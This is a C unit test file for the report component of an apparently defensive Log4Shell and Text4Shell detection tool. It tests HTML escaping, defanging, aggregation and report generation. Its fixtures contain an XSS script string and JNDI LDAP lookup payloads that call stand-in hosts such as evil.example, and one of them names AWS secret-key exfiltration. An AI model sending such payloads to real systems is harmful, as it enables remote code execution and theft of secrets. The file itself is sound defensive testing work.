/*
 * test_report.c -- `defuse report`'s aggregation (report/agg.c), escaping
 * and page bounds (report/html.c).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "report.h"

static char *esc(const char *s, size_t n, size_t max) {
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    rep_html_esc(f, s, n, max);
    fclose(f);
    return buf;
}

static void test_escape(void **state) {
    (void)state;
    static const char hostile[] = "<script>alert(1)</script></svg>\"'&\x01\x1b[31m\x7f\xff\xc0\xaf"
                                  "\xe2\x80\xae";
    char *o = esc(hostile, sizeof hostile - 1, 1000);
    assert_null(strchr(o, '<'));
    assert_null(strchr(o, '>'));
    assert_null(strchr(o, '"'));
    assert_null(strchr(o, '\''));
    assert_string_equal(o, "&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;&quot;&#39;&amp;"
                           "\\x01\\x1B[31m\\x7F\\xFF\\xC0\\xAF\\u{202E}");
    for (const char *p = o; *p; p++)
        assert_true((unsigned char)*p >= 0x20 && (unsigned char)*p < 0x7f);
    free(o);
    /* valid UTF-8 passes; a cut leaves no partial sequence and says so */
    o = esc("caf\xc3\xa9 \xc4\xb1", 8, 1000);
    assert_string_equal(o, "caf\xc3\xa9 \xc4\xb1");
    free(o);
    o = esc("ab\xc3\xa9", 4, 3);
    assert_string_equal(o, "ab\\xC3\xe2\x80\xa6");
    free(o);
    /* NUL bytes are shown, not cut at */
    o = esc("a\0b", 3, 10);
    assert_string_equal(o, "a\\x00b");
    free(o);
}

static void test_defanged(void **state) {
    (void)state;
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    const char *s = "${jndi:ldap://evil.example/<b>}";
    rep_html_defanged(f, s, strlen(s), 1000);
    fclose(f);
    assert_null(strstr(buf, "${"));
    assert_null(strstr(buf, "://"));
    assert_null(strchr(buf, '<'));
    assert_non_null(strstr(buf, "evil[.]example"));
    free(buf);
}

static void test_top_bounded(void **state) {
    (void)state;
    rep_top t;
    rep_top_init(&t);
    /* two heavy hitters among many distinct light values */
    char k[32];
    for (int i = 0; i < 50000; i++) {
        snprintf(k, sizeof k, "light-%d", i);
        assert_int_equal(rep_top_add(&t, k, strlen(k), 1, 0), 0);
        if (i % 10 == 0)
            assert_int_equal(rep_top_add(&t, "heavy-a", 7, 1, 0), 0);
        if (i % 20 == 0)
            assert_int_equal(rep_top_add(&t, "heavy-b", 7, 1, 0), 0);
        assert_true(t.n <= REP_TOP_CAP);
    }
    size_t n = rep_top_sorted(&t);
    assert_true(n <= REP_TOP_CAP);
    assert_string_equal(t.e[0].key, "heavy-a");
    assert_string_equal(t.e[1].key, "heavy-b");
    /* counts are exact up to the recorded error bound, never below */
    assert_true(t.e[0].n >= 5000 && t.e[0].n <= 5000 + t.err);
    assert_true(t.e[1].n >= 2500 && t.e[1].n <= 2500 + t.err);
    assert_int_equal(t.total, 50000 + 5000 + 2500);
    /* keys are cut at REP_MAX_VALUE bytes and at a NUL */
    char big[REP_MAX_VALUE * 2];
    memset(big, 'x', sizeof big);
    rep_top_free(&t);
    rep_top_init(&t);
    rep_top_add(&t, big, sizeof big, 1, 0);
    rep_top_add(&t, "a\0b", 3, 1, 0);
    rep_top_sorted(&t);
    assert_int_equal(strlen(t.e[0].key), REP_MAX_VALUE);
    assert_string_equal(t.e[1].key, "a");
    rep_top_free(&t);
}

static void test_hll(void **state) {
    (void)state;
    static rep_hll h;
    memset(&h, 0, sizeof h);
    char k[32];
    for (int i = 0; i < 20000; i++) {
        snprintf(k, sizeof k, "10.%d.%d.%d", i >> 16, (i >> 8) & 255, i & 255);
        rep_hll_add(&h, rep_hash(k, strlen(k)));
        rep_hll_add(&h, rep_hash(k, strlen(k))); /* duplicates do not count */
    }
    double c = rep_hll_count(&h);
    assert_true(c > 19000 && c < 21000);
    memset(&h, 0, sizeof h);
    for (int i = 0; i < 7; i++) {
        snprintf(k, sizeof k, "src%d", i);
        rep_hll_add(&h, rep_hash(k, strlen(k)));
    }
    assert_int_equal((int)(rep_hll_count(&h) + 0.5), 7);
}

static void test_time(void **state) {
    (void)state;
    int64_t ms;
    assert_int_equal(rep_parse_time("2021-12-10T13:01:21Z", 20, &ms), 0);
    assert_int_equal(ms, 1639141281000LL);
    assert_int_equal(rep_parse_time("2021-12-10T14:01:21.250+01:00", 29, &ms), 0);
    assert_int_equal(ms, 1639141281250LL);
    assert_int_equal(rep_parse_time("2021-12-10 08:01:21,5-0500", 26, &ms), 0);
    assert_int_equal(ms, 1639141281500LL);
    assert_int_equal(rep_parse_time("2021-13-10T13:01:21Z", 20, &ms), -1);
    assert_int_equal(rep_parse_time("2021-12-10", 10, &ms), -1);
    assert_int_equal(rep_parse_time("1969-12-31T23:59:59Z", 20, &ms), -1);
}

static void test_internal(void **state) {
    (void)state;
    static rep_opts o;
    memset(&o, 0, sizeof o);
    char err[256];
    static const struct {
        const char *ip;
        int internal;
    } cases[] = {{"10.1.2.3", 1},     {"172.16.0.1", 1},   {"172.32.0.1", 0},
                 {"192.168.9.9", 1},  {"192.169.0.1", 0},  {"fd12::1", 1},
                 {"fc00::1", 1},      {"fe80::1", 0},      {"203.0.113.7", 0},
                 {"[fd00::5]:443", 1}, {"10.0.0.1:8080", 1}, {"not-an-ip", 0},
                 {"::ffff:10.0.0.1", 1}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        assert_int_equal(rep_is_internal(&o, cases[i].ip, strlen(cases[i].ip)), cases[i].internal);
    assert_int_equal(rep_parse_cidrs(&o, "100.64.0.0/10, 2001:db8:1::/48,198.51.100.23", err,
                                     sizeof err),
                     0);
    assert_int_equal(o.ninternal, 3);
    assert_true(rep_is_internal(&o, "100.127.1.1", 11));
    assert_false(rep_is_internal(&o, "100.128.1.1", 11));
    assert_true(rep_is_internal(&o, "2001:db8:1:ffff::1", 18));
    assert_false(rep_is_internal(&o, "2001:db8:2::1", 13));
    assert_true(rep_is_internal(&o, "198.51.100.23", 13));
    assert_false(rep_is_internal(&o, "198.51.100.24", 13));
    assert_int_equal(rep_parse_cidrs(&o, "10.0.0.0/33", err, sizeof err), -1);
    assert_non_null(strstr(err, "10.0.0.0/33"));
    assert_int_equal(rep_parse_cidrs(&o, "nonsense", err, sizeof err), -1);
    assert_int_equal(rep_parse_cidrs(&o, "10.0.0.0/x", err, sizeof err), -1);
}

#define ADD(r, s) assert_int_equal(rep_add_line((r), (s), strlen(s)), 0)

static void test_kinds_by_content(void **state) {
    (void)state;
    static rep r;
    assert_int_equal(rep_init(&r, NULL), 0);
    /* defuse logs --json */
    ADD(&r, "{\"file\":\"a.log\",\"line\":1,\"src_ip\":\"203.0.113.5\",\"time\":\"2021-12-10T13:00:01Z\","
            "\"kind\":\"jndi\",\"payload\":\"x\",\"decoded\":\"x\",\"techniques\":[\"lower\",\"nested\"],"
            "\"callback\":\"ldap://e.example:1389/a\",\"scheme\":\"ldap\",\"host\":\"e.example\","
            "\"port\":1389,\"exfil\":[\"env:AWS_SECRET_ACCESS_KEY\"],\"command\":null}");
    ADD(&r, "{\"file\":\"a.log\",\"line\":2,\"time\":\"2021-12-10T13:10:00Z\",\"kind\":\"lookup\","
            "\"payload\":\"y\",\"decoded\":\"y\",\"techniques\":[],\"exfil\":[]}");
    ADD(&r, "{\"summary\":true,\"files\":1,\"lines\":1000,\"findings\":2}");
    /* nginx: client (today) and src_ip (renamed), block, detect and a pass line */
    ADD(&r, "{\"time\":\"2021-12-10T14:00:00+00:00\",\"request\":{\"client\":\"10.9.8.7\","
            "\"method\":\"GET\",\"uri\":\"/\",\"host\":\"shop\"},\"part\":\"uri\",\"action\":\"block\","
            "\"status\":403,\"kind\":\"jndi\",\"payload\":\"p\",\"host\":\"e.example\",\"port\":389,"
            "\"scheme\":\"ldap\"}");
    ADD(&r, "{\"schema\":\"defuse.nginx/1\",\"time\":\"2021-12-10T14:01:00+00:00\",\"request\":"
            "{\"src_ip\":\"198.51.100.9\",\"host\":\"shop\"},\"action\":\"detect\",\"status\":0,"
            "\"kind\":\"text4shell\",\"payload\":\"q\"}");
    ADD(&r, "{\"time\":\"2021-12-10T14:02:00+00:00\",\"request\":{\"client\":\"198.51.100.9\"},"
            "\"part\":\"body\",\"action\":\"pass\",\"status\":0,\"partial\":true,"
            "\"event\":\"params_limit\"}");
    /* honeypot: a connection with one finding, a daemon event */
    ADD(&r, "{\"time\":\"2021-12-10T15:00:00.000001Z\",\"event_id\":\"1\",\"conn_id\":\"c\","
            "\"node\":\"n\",\"event\":\"http.request\",\"listener\":\"web\",\"protocol\":\"http\","
            "\"src_ip\":\"192.168.1.50\",\"src_port\":5,\"dst_ip\":\"127.0.0.1\",\"dst_port\":8080,"
            "\"kind\":\"jndi\",\"findings\":[{\"kind\":\"jndi\",\"host\":\"cb.example\",\"port\":1389,"
            "\"scheme\":\"ldap\",\"exfil\":[],\"techniques\":[\"lower\"],"
            "\"command\":\"id\"}]}");
    ADD(&r, "{\"time\":\"2021-12-10T15:00:01Z\",\"event_id\":\"2\",\"node\":\"n\","
            "\"event\":\"sink.status\",\"sink\":\"file\",\"state\":\"ok\"}");
    /* raw log lines: one with an attempt, one without, one broken JSON */
    ADD(&r, "198.51.100.1 - - [10/Dec/2021:16:00:00 +0000] \"GET /${jndi:ldap://raw.example/x} "
            "HTTP/1.1\" 200 1 \"-\" \"-\"");
    ADD(&r, "198.51.100.1 - - [10/Dec/2021:16:00:05 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"");
    ADD(&r, "{\"broken\": ");
    ADD(&r, "   ");

    assert_int_equal(r.in_lines[REP_IN_FINDING], 2);
    assert_int_equal(r.in_lines[REP_IN_SUMMARY], 1);
    assert_int_equal(r.in_lines[REP_IN_NGINX], 3);
    assert_int_equal(r.in_lines[REP_IN_HONEYPOT], 2);
    assert_int_equal(r.in_lines[REP_IN_LOG], 3);
    assert_int_equal(r.bad_json, 1);
    assert_int_equal(r.summary_lines, 1000);
    assert_int_equal(r.findings, 6);
    assert_int_equal(r.kind[DEFUSE_KIND_JNDI], 4);
    assert_int_equal(r.kind[DEFUSE_KIND_TEXT4SHELL], 1);
    assert_int_equal(r.kind[DEFUSE_KIND_LOOKUP], 1);
    assert_int_equal(r.act[REP_ACT_BLOCK], 1);
    assert_int_equal(r.act[REP_ACT_DETECT], 1);
    assert_int_equal(r.act[REP_ACT_PASS], 1);
    assert_int_equal(r.nginx_findings, 2);
    /* both spellings of the nginx client counted as sources */
    rep_top_sorted(&r.src);
    int seen_client = 0, seen_src_ip = 0;
    for (size_t i = 0; i < r.src.n; i++) {
        seen_client |= !strcmp(r.src.e[i].key, "10.9.8.7");
        seen_src_ip |= !strcmp(r.src.e[i].key, "198.51.100.9");
    }
    assert_true(seen_client && seen_src_ip);
    /* internal: the nginx client and the honeypot source */
    rep_top_sorted(&r.internal_src);
    assert_int_equal(r.internal_src.n, 2);
    assert_int_equal((int)(rep_hll_count(&r.internal_hll) + 0.5), 2);
    rep_top_sorted(&r.cb_host);
    assert_string_equal(r.cb_host.e[0].key, "e.example");
    assert_int_equal(r.cb_host.e[0].n, 2);
    assert_int_equal(r.cb_host.n, 3); /* e.example, cb.example, raw.example */
    rep_top_sorted(&r.hp_listener);
    assert_string_equal(r.hp_listener.e[0].key, "web");
    assert_int_equal(r.command.total, 1);
    assert_int_equal(r.exfil.total, 1);
    /* first and last finding; hours 13..16 */
    assert_int_equal(r.first_ms, 1639141201000LL);
    assert_int_equal(r.last_ms, 1639152000000LL);
    assert_int_equal(r.hours.n, 4);
    rep_free(&r);
}

/* The fields of the defuse JSON schema 1 (schema, hostname, defuse_version;
 * nginx's src_ip at the top level beside or instead of request.client;
 * src_ip and time null rather than absent) read as before. */
static void test_schema1(void **state) {
    (void)state;
    static rep r;
    assert_int_equal(rep_init(&r, NULL), 0);
    ADD(&r, "{\"schema\":1,\"hostname\":\"web-1\",\"defuse_version\":\"0.1.0\","
            "\"time\":\"2021-12-10T14:00:00+00:00\",\"src_ip\":\"10.1.1.1\",\"request\":"
            "{\"method\":\"GET\",\"uri\":\"/\",\"host\":\"shop\"},\"action\":\"block\","
            "\"status\":403,\"kind\":\"jndi\",\"payload\":\"p\",\"host\":\"cb.example\"}");
    ADD(&r, "{\"schema\":1,\"hostname\":\"app-1\",\"defuse_version\":\"0.1.0\",\"file\":\"a\","
            "\"line\":1,\"src_ip\":null,\"time\":null,\"kind\":\"lookup\",\"payload\":\"x\","
            "\"decoded\":\"x\",\"host\":null,\"port\":null,\"exfil\":[],\"command\":null}");
    assert_int_equal(r.in_lines[REP_IN_NGINX], 1);
    assert_int_equal(r.in_lines[REP_IN_FINDING], 1);
    assert_int_equal(r.findings, 2);
    assert_int_equal(r.no_time, 1);
    rep_top_sorted(&r.src);
    assert_int_equal(r.src.n, 1);
    assert_string_equal(r.src.e[0].key, "10.1.1.1");
    assert_int_equal(r.internal_src.n, 1);
    rep_top_sorted(&r.cb_host);
    assert_int_equal(r.cb_host.n, 1); /* the callback's host, not the machine's hostname */
    assert_string_equal(r.cb_host.e[0].key, "cb.example");
    rep_free(&r);
}

/* The page stays small and inert whatever the input: hostile values in
 * every field, many distinct values, times over decades. */
static void test_page_bounded_and_inert(void **state) {
    (void)state;
    static rep r;
    assert_int_equal(rep_init(&r, NULL), 0);
    char line[4096];
    const char *evil = "<script>alert(1)<\\/script><\\/svg>\\\"'\\u0001\\u001b\\u0000x";
    for (int i = 0; i < 60000; i++) {
        snprintf(line, sizeof line,
                 "{\"time\":\"%04d-%02d-10T%02d:00:00Z\",\"src_ip\":\"%s%d\",\"kind\":\"jndi\","
                 "\"payload\":\"p\",\"host\":\"%s%d.example\",\"port\":%d,\"scheme\":\"%s\","
                 "\"exfil\":[\"%s%d\"],\"command\":\"%s%d\",\"techniques\":[\"%s\"]}",
                 1990 + i % 30, 1 + i % 12, i % 24, evil, i, evil, i, 1 + i % 65535, evil, evil, i,
                 evil, i, evil);
        assert_int_equal(rep_add_line(&r, line, strlen(line)), 0);
        snprintf(line, sizeof line,
                 "{\"time\":\"2021-12-10T14:00:00Z\",\"event_id\":\"%d\",\"event\":\"%s\","
                 "\"listener\":\"%s%d\",\"protocol\":\"%s\",\"src_ip\":\"%s\"}",
                 i, evil, evil, i, evil, evil);
        assert_int_equal(rep_add_line(&r, line, strlen(line)), 0);
    }
    assert_true(r.src.n <= REP_TOP_CAP && r.cb_host.n <= REP_TOP_CAP);
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    assert_int_equal(rep_write_html(&r, f), 0);
    fclose(f);
    assert_true(len < 2u * 1024 * 1024);
    assert_null(strstr(buf, "<script"));
    assert_null(strstr(buf, "alert(1)</"));
    assert_int_equal(strstr(buf, "</svg>") != NULL, 1); /* our own charts only: */
    size_t svg_open = 0, svg_close = 0;
    for (const char *p = buf; (p = strstr(p, "<svg")); p++)
        svg_open++;
    for (const char *p = buf; (p = strstr(p, "</svg>")); p++)
        svg_close++;
    assert_int_equal(svg_open, svg_close);
    for (size_t i = 0; i < len; i++)
        assert_true((unsigned char)buf[i] >= 0x20 || buf[i] == '\n');
    assert_non_null(strstr(buf, "Content-Security-Policy"));
    free(buf);
    rep_free(&r);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_escape),        cmocka_unit_test(test_defanged),
        cmocka_unit_test(test_top_bounded),   cmocka_unit_test(test_hll),
        cmocka_unit_test(test_time),          cmocka_unit_test(test_internal),
        cmocka_unit_test(test_kinds_by_content), cmocka_unit_test(test_schema1),
        cmocka_unit_test(test_page_bounded_and_inert),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
